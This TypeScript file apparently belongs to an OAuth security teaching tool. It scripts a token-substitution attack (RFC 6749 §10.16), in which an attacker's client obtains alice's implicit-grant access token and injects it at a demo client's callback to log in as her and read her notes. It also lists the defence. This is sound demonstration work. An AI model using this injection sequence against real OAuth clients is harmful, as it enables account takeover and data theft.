import { redirectTarget } from '../../../client/page-visitor.js'
import { clientUrl, readNotes } from '../demo-client.js'
import { attack } from '../model.js'
import { authorizationUrl, authorize, need, OWN_CLIENT, parameterOf, quiz } from '../moves.js'

/** A token that another client got, taken for a login. */
export const tokenSubstitution = attack({
  name: 'token-substitution',
  title: 'a token that another client got, taken for a login',
  rule: 'RFC 6749 §10.16',
  weak: ['implicit-login'],
  opened: { 'implicit-login': { stolen: true } },
  starts: [
    'The attacker runs a client of their own, which alice logs in to.',
    'Alice allows it to know who she is, and nothing else.',
  ],
  steals: 'notes of alice',
  defences: [{ check: 'access_token', rule: 'RFC 6749 §10.16' }],
  wouldNotHelp: [
    'state: it is the state of the attacker’s own session',
    'the signature of the token: the token is real',
    'asking userinfo: it answers truly who the token is about, and not for whom it was made',
  ],
  demoClient: true,
  ...OWN_CLIENT,
  clients: site => [{ ...quiz(site), grant_types: ['implicit'], response_types: ['token'] }],
  story: {
    authorization_request: 'Alice logs in for the quiz of the attacker.',
    login: 'She allows the quiz to know who she is.',
    theft: 'The token comes to the quiz, as it should.',
    attacker_login: 'The attacker starts a login at the demo client.',
    injection: 'The attacker delivers the token of alice. The client must ask for whom a token was made.',
    stolen_notes: 'The attacker is logged in as alice, and reads her notes.',
  },
  lanes: {
    authorization_request: ['user_agent', 'authorization_server', 'GET /authorization', '6749 §4.2.1'],
    login: ['user_agent', 'authorization_server', 'POST /authorization', '6749 §4.2.1'],
    theft: ['user_agent', 'attacker', 'the access token', '6749 §4.2.2'],
    attacker_login: ['attacker', 'client', 'GET /login', '6749 §4.2'],
    injection: ['attacker', 'client', 'POST /callback', '6749 §10.16'],
    stolen_notes: ['attacker', 'client', 'GET /notes', '6749 §10.16'],
  },
  async *run(scene) {
    const { victim, attacker, catcher, urls, step } = scene
    const url = authorizationUrl(scene, {
      response_type: 'token',
      client_id: catcher.client,
      redirect_uri: catcher.address,
      scope: 'openid profile',
      state: 'of-the-quiz',
    })
    const { target, exchange } = yield* authorize(scene, victim, url, ['authorization_request', 'login'])
    const token = need(target && parameterOf(target, 'access_token'), exchange)
    // The page of the quiz reads the fragment, as the client of an implicit grant does.
    yield step('theft', { exchange: (await victim.follow(exchange))!, note: 'an honest login so far' })

    const begun = await attacker.open(`${clientUrl(scene)}/login`)
    const own = redirectTarget(begun)
    yield step('attacker_login', { exchange: begun })
    const state = own && parameterOf(own, 'state')
    const callback = (own && parameterOf(own, 'redirect_uri')) ?? `${clientUrl(scene)}/callback`
    const answer: [string, string][] = [
      ['access_token', token],
      ['token_type', 'Bearer'],
      ['expires_in', '3600'],
      ['iss', urls.authorization],
    ]
    if (state !== undefined) answer.push(['state', state])
    const relay = await attacker.open(callback)
    return yield* readNotes(scene, await attacker.post(callback, answer, relay))
  },
})
